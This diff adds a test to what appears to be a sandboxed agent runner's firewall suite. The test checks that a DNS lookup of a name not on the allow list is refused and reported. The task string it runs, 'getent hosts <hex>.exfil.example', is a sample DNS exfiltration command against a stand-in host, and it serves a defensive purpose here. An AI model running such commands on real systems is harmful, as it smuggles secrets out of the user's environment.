@@ -219,6 +219,26 @@ def test_blocked_destinations_are_counted_and_reported(
     assert "to allow one: --allow-host HOST:PORT" in text.stdout
 
 
+def test_a_lookup_of_a_name_not_allowed_is_refused_and_reported(
+    repo: Path, command_env: Callable[..., dict[str, str]]
+) -> None:
+    """Data in a name's labels leaves by DNS no more (the resolver never sees the query:
+    tests/integration/test_firewall.py); the run goes on, and the report says which name it
+    tried and how to allow it."""
+    secret = "7365637265742d33"
+    task = f'getent hosts {secret}.exfil.example; echo "lookup exit=$?"'
+    result = run_cli(command("--task", task), cwd=repo, env=command_env())
+    assert result.code == 0, result.stderr
+    report = result.report
+    assert report is not None
+    output = (Path(report["run_dir"]) / "agent.jsonl").read_text()
+    assert "lookup exit=2" in output
+    refused = [b for b in report["blocked"] if b["protocol"] == "dns"]
+    assert [b["names"] for b in refused] == [[f"{secret}.exfil.example"]]
+    assert refused[0]["allow"] == f"--allow-host {secret}.exfil.example"
+    assert f"lookup of {secret}.exfil.example refused" in result.stdout
+
+
 def test_what_is_allowed_is_not_blocked_and_no_firewall_records_nothing(
     repo: Path, command_env: Callable[..., dict[str, str]], target: str
 ) -> None:
